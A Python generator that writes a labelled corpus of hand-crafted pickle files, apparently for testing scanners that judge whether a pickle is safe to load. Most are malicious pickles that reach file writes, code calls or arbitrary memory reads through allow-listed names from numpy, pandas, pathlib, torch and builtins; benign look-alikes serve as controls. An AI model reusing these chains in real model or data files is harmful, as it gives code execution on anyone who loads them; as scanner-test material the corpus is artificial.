#!/usr/bin/python3
"""Pickles that name nothing dangerous and do harm: calls by way of names that every model uses.

    pickle_chain_tricks.py OUTDIR

writes the files and OUTDIR/manifest.tsv (README.md). Each malicious one really writes a file called
canary into the current directory, or runs `echo canary`, under CPython with the libraries of Debian 12:
through a method of an array or a data frame, a path, an attribute that Python looks up on the object
itself, a function that calls its argument.
"""
import os
import pickle
import struct
import sys
import types

import numpy

ROWS = []
OUT = "."
P2, P4 = b"\x80\x02", b"\x80\x04"
SPEC = "by specification: "


def emit(name, data, label="malicious", loader="pickle.load", verdict="dangerous", trick="P9"):
    path = name + ".pkl"
    with open(os.path.join(OUT, path), "wb") as f:
        f.write(data + b".")
    ROWS.append((path, label, trick, loader, "", "clean" if label == "benign" else verdict))


def uni(text):
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def short(text):
    return b"\x8c" + bytes([len(text)]) + text.encode()


def glob(module, name):
    return f"c{module}\n{name}\n".encode()


def dotted(module, name):
    return short(module) + short(name) + b"\x93"


def call(function, *arguments):
    return function + b"(" + b"".join(arguments) + b"tR"


def dictionary(**items):
    return b"}(" + b"".join(uni(k) + v for k, v in items.items()) + b"u"


def body(value):
    """The opcodes that make a value, without PROTO and STOP."""
    return pickle.dumps(value, 2)[2:-1]


ARRAY = body(numpy.arange(3, dtype="u1"))
FRAME_CALL = call(glob("pandas.core.frame", "DataFrame"), body({"a": [1]}))
PATH = call(glob("pathlib", "PosixPath"), uni("canary"))
GETATTR = glob("builtins", "getattr")
NAMESPACE = glob("argparse", "Namespace") + b")\x81"
SIMPLE = glob("types", "SimpleNamespace") + b")\x81"
NAME = uni("canary")


def method(owner, name):
    return call(GETATTR, owner, uni(name))


def planted(**items):
    return NAMESPACE + dictionary(**items) + b"b"


METHODS = {"tofile": (ARRAY, "tofile"), "dump": (ARRAY, "dump"), "frame": (FRAME_CALL, "to_csv"),
           "path": (PATH, "write_text")}


def items_after_state():
    for kind, (owner, name) in METHODS.items():
        bound = method(owner, name)
        emit(f"append-{kind}", P2 + planted(append=bound) + NAME + b"a")
        emit(f"appends-{kind}", P2 + planted(append=bound) + b"(" + NAME + b"e")
        emit(f"additems-{kind}", P4 + planted(add=bound) + b"(" + NAME + b"\x90")
        emit(f"setstate-{kind}", P2 + planted(__setstate__=bound) + NAME + b"b")
        emit(f"slots-{kind}", P2 + NAMESPACE + b"N" + dictionary(append=bound) + b"\x86b" + NAME + b"a")
    emit("append-path-rename", P2 + planted(append=method(call(glob("pathlib", "PosixPath"), uni(".")),
                                                          "joinpath")) + uni("x") + b"a",
         "suspicious", SPEC + "builds a path", "dangerous")
    # Not from allowed names alone: a function of a library that no list knows.
    emit("append-unlisted", P4 + planted(append=dotted("numpy.testing", "assert_")) + uni("") + b"a",
         "suspicious", SPEC + "raises", "dangerous")
    emit("user-list", P2 + glob("collections", "UserList") + b")\x81" + dictionary(
        data=planted(append=method(ARRAY, "tofile"))) + b"b" + NAME + b"a", loader="pickle._Unpickler")


def bridges():
    for kind, (owner, name) in METHODS.items():
        bound = method(owner, name)
        emit(f"generator-{kind}", P2 + call(glob("numpy.random._pickle", "__generator_ctor"), NAME, bound))
        emit(f"random-state-{kind}", P2 + call(glob("numpy.random._pickle", "__randomstate_ctor"), NAME,
                                               bound))
        for function in ("_rebuild_from_type", "_rebuild_from_type_v2"):
            emit(f"{function}-{kind}", P2 + call(glob("torch._tensor", function), bound,
                                                 glob("torch", "Tensor"), b"(" + NAME + b"t", b"}"))
    emit("rebuild-dotted", P4 + call(dotted("torch._tensor", "_rebuild_from_type_v2"),
                                     dotted("numpy", "ndarray.tofile"), dotted("torch", "Tensor"),
                                     b"(" + ARRAY + NAME + b"t", b"}"))
    emit("set-obj-state", P2 + call(glob("torch._utils", "_set_obj_state"), glob("argparse", "Namespace"),
                                    dictionary(append=method(ARRAY, "tofile"))) + b"0" + NAMESPACE + NAME + b"a",
         loader=SPEC + "PyTorch 2")
    emit("lambda-lr", P2 + call(glob("torch.optim.lr_scheduler", "LambdaLR"), call(
        glob("torch.optim.sgd", "SGD"), b"(" + call(glob("torch._utils", "_rebuild_parameter"), call(
            glob("torch", "Tensor")), b"\x88", call(glob("collections", "OrderedDict"))) + b"l",
        b"G\x3f\xb9\x99\x99\x99\x99\x99\x9a"), call(GETATTR, PATH, uni("mkdir"))))
    emit("inception", P2 + call(glob("torchvision.models.inception", "InceptionAux"), NAME, b"K\x01",
                                call(GETATTR, PATH, uni("touch"))), loader=SPEC + "needs other arguments")
    partial = call(glob("functools", "partial"), method(ARRAY, "tofile"), NAME)
    emit("array-method", P2 + call(glob("numpy", "array"), planted(__array__=partial)))
    emit("asarray-method", P2 + call(glob("numpy", "asarray"), planted(__array__=partial)))
    objects = call(glob("numpy.core.multiarray", "_reconstruct"), glob("numpy", "ndarray"), b"(K\x00t",
                   body(b"b")) + b"(K\x01(K\x01t" + body(numpy.dtype("O")) + b"\x89(" + planted(sqrt=partial) + b"ltb"
    emit("ufunc", P2 + call(glob("numpy", "sqrt"), objects))
    emit("frozen", P2 + call(glob("scipy.stats._distn_infrastructure", "rv_frozen"), planted(
        _updated_ctor_param=partial)))
    emit("defaultdict", P2 + call(glob("collections", "defaultdict"), partial),
         "suspicious", SPEC + "called when a key is missing", "review")
    interface = dictionary(version=b"K\x03", shape=b"(K\x08t", typestr=uni("|u1"),
                           data=b"(J\x00\x00\x00\x10\x89t")
    emit("array-interface", P2 + call(glob("numpy", "asarray"), planted(__array_interface__=interface)),
         loader=SPEC + "reads memory anywhere")
    emit("change-class", P2 + NAMESPACE + b"N" + dictionary(__class__=glob("types", "SimpleNamespace")) +
         b"\x86b", "suspicious", SPEC + "the object becomes one of another class", "dangerous")


def classes_by_type():
    made = call(glob("builtins", "type"), NAMESPACE)
    emit("type-of", P2 + made + b"N" + dictionary(append=method(ARRAY, "tofile")) + b"\x86b0" + NAMESPACE + NAME +
         b"a")
    emit("type-called", P2 + call(call(glob("builtins", "type"), method(ARRAY, "tofile")), NAME),
         loader=SPEC + "makes nothing")
    emit("type-attribute", P4 + call(call(GETATTR, call(glob("builtins", "type"), ARRAY), uni("tofile")), ARRAY,
                                     NAME))
    emit("enum-missing", P2 + call(call(glob("enum", "Enum"), uni("E"), dictionary(
        a=b"K\x01", _missing_=method(ARRAY, "tofile"))), NAME))


def forged_types():
    memory = SPEC + "reads memory anywhere when the array is touched"

    def array(state, size=8):
        dtype = call(glob("numpy", "dtype"), uni(f"V{size}"), b"\x89", b"\x88") + b"(" + state + b"tb"
        return P2 + call(glob("numpy.core.multiarray", "_reconstruct"), glob("numpy", "ndarray"), b"(K\x00t",
                         body(b"b")) + b"(K\x01(K\x01t" + dtype + b"\x89" + body(b"A" * size) + b"tb"

    def fields(dtype, offset, size, flags):
        return (b"K\x03" + uni("|") + b"N(" + uni("a") + b"t}" + uni("a") + b"(" + body(numpy.dtype(dtype)) +
                offset + b"ts" + size + b"K\x01" + flags)
    emit("dtype-object", array(fields("O", b"K\x00", b"K\x08", b"K\x00")), loader=memory)
    emit("dtype-beyond", array(fields("i8", b"J\x00\x00\x10\x00", b"K\x08", b"K\x10")), loader=memory)
    emit("dtype-before", array(fields("i8", b"J\xf8\xff\xff\xff", b"K\x08", b"K\x10")), loader=memory)
    emit("dtype-subarray", array(b"K\x03" + uni("|") + b"(" + body(numpy.dtype("O")) + b"(K\x01ttNNK\x08K\x01K\x00"),
         loader=memory)
    honest = {"plain": [("a", "i8"), ("b", "U5"), ("c", "M8[ns]")], "objects": [("a", "O"), ("b", "f4")],
              "nested": [("a", [("x", "O"), ("y", "i2")]), ("b", "S3", (2, 2))], "object": "O",
              "aligned": numpy.dtype([("a", "i1"), ("b", "f8")], align=True), "sub": [("x", "O", (2,))],
              "titles": [(("title", "a"), "i4")], "dates": "M8[s]"}
    for name, dtype in honest.items():
        for protocol in range(6):
            emit(f"ok-dtype-{name}-{protocol}", pickle.dumps(numpy.zeros(2, dtype), protocol)[:-1], "benign",
                 trick="P13")


def look_alikes():
    import argparse
    import collections
    values = {
        "namespace": argparse.Namespace(append=1, add=[2], extend="x"),
        "simple": types.SimpleNamespace(path="canary", run=1),
        "user-list": collections.UserList([1, 2]),
        "array": numpy.arange(3),
        "objects": numpy.array([{"a": 1}, None], dtype=object),
        "generator": numpy.random.default_rng(1),
        "random-state": numpy.random.RandomState(1),
        "path": __import__("pathlib").PurePosixPath("canary"),
        "ufuncs": [numpy.sqrt, numpy.add, numpy.mean],
        "defaultdict": collections.defaultdict(list, {"a": [1]}),
        "ordered": collections.OrderedDict(a=1),
        "deque": collections.deque([1, 2], 3),
        "list-in-state": argparse.Namespace(items=[1, 2], more=argparse.Namespace(x=1)),
    }
    for name, value in values.items():
        for protocol in range(6):
            emit(f"ok-{name}-{protocol}", pickle.dumps(value, protocol)[:-1], "benign")


def main():
    global OUT
    OUT = sys.argv[1]
    os.makedirs(OUT, exist_ok=True)
    for make in (items_after_state, bridges, classes_by_type, forged_types, look_alikes):
        make()
    with open(os.path.join(OUT, "manifest.tsv"), "w") as f:
        for row in ROWS:
            f.write("\t".join(row) + "\n")


if __name__ == "__main__":
    main()
